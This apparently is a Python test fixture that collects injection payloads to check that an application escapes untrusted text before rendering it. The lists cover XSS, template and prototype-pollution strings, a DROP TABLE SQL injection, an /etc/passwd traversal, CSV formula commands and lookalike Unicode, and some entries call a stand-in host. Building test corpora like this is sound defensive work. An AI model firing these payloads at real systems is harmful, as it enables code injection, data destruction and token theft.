"""Texts of other people that want to be more than text. What they would run is called `pwned`, what they would work out
is 49819, and attributes and elements they would make are named so too: none of these may come to be on a page.
"""

#: In a field that takes values this is what it says.
CALCULATION = "{{ 7117*7 }}"
#: Breaks out of a text, and out of an attribute in quotes of either kind.
BREAKER = "'\"><img src=x onerror=pwned(0)>{{ 7117*7 }}"
MARKUP = [
    BREAKER,
    "<script>pwned(1)</script>",
    "</script><script>pwned(2)</script>",
    "<!--</script><script>pwned(3)//-->",
    "<img src=x onerror=pwned(4)>",
    '"><img src=x onerror="pwned(5)">',
    "'><svg/onload=pwned(6)>",
    '" pwned="7" onfocus="pwned(7)" autofocus x="',
    "' pwned='8' onmouseover='pwned(8)",
    "` onclick=pwned(9) `",
    "x onpointerenter=pwned(10) pwned=10 y",
    "</textarea><pwned-text onclick=pwned(11)>",
    "</title><pwned-title></title>",
    "</template><script>pwned(13)</script><template>",
    "</select></option><option pwned>14",
    "</style><style>*{background:url(//pwned.invalid/15)}</style>",
    "</noscript><iframe srcdoc='<script>parent.pwned(16)</script>'>",
    "<base href=//pwned.invalid/><meta http-equiv=refresh content=0>",
    "<form action=//pwned.invalid/18><input name=csrfmiddlewaretoken>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(19)>",
    "<!-- pwned 20",
    "]]><![CDATA[<pwned-data/>]]>",
    "&lt;script&gt;pwned(22)&lt;/script&gt; &amp;quot; &#x3c;b&#x3e;",
    "<px-value pwned><textarea>pwned(23)</textarea></px-value>",
    "<ScRiPt\x0bsrc=//pwned.invalid/24></sCrIpT >",
]
LINKS = [
    "javascript:pwned(30)",
    "JaVaScRiPt:pwned(31)//https://example.com/",
    "\tjava\nscript:pwned(32)",
    "data:text/html,<script>pwned(33)</script>",
    "//pwned.invalid/34",
    "https://pwned.invalid/35\" onclick=\"pwned(35)",
    "vbscript:pwned(36)",
]  # fmt: skip
SYNTAX = [
    '" x-data="pwned(40)" x-init="pwned(40)" @click="pwned(40)',
    CALCULATION,
    "{% now 'Y' %}{% include 'pwned.html' %}{# pwned #}",
    "${7117*7} #{7117*7} <%= 7117*7 %> *{7117*7}",
    "{{ trigger.title | upper }}",
    "{{ trigger.title",
    "}} {{ {{ trigger.title }} }}",
    "{{{{ }}}} {%%} {##}",
    "{{ constructor.constructor('pwned(48)')() }}",
    "$el.ownerDocument.defaultView.pwned(49)",
    "'-pwned(50)-'",
    "\\'-pwned(51)//",
    "');pwned(52);('",
    '{"__proto__": {"pwned": 53}}',
    "__proto__",
    "constructor.prototype.pwned",
    "toString",
    '","pwned":"57","x":"',
    "\\u003cscript\\u003epwned(58)\\u003c/script\\u003e",
    "%3Cscript%3Epwned(59)%3C/script%3E",
    "'; DROP TABLE workflows_run; --",
    "../../etc/passwd%00.png",
    "hx-on::load=pwned(62) data-hx-get=/pwned",
]  # fmt: skip
LETTERS = [
    "\u202eetirw ot dewolla\u202c",
    "\u2066left\u2069 \u2067right\u2069 \u200f\u200e",
    "zero\u200bwidth\u2060and\ufeffmarks",
    "e\u0301 a\u0308 Z\u0351\u036b\u0343\u036a\u0302\u036b",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "דוח \u05d0\u05d1 للشهر 12 < 13",
    "control\x01\x08\x1b[31m\x7f\x9f",
    "line\none\r\ntwo\u2028three\x0bfour",
    "=?utf-8?B?PHNjcmlwdD5wd25lZCg4Nyk8L3NjcmlwdD4=?=",
    "\uff1cscript\uff1epwned(78)\uff1c/script\uff1e",
    "\u0130\u0131\u017f\ufb01 \u1e9e \u212a",
    "W" * 300,
]
CELLS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://pwned.invalid/";"90")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'a;b,"c"\t"d',
]
VALUES = [*MARKUP, *LINKS, *SYNTAX, *LETTERS, *CELLS]
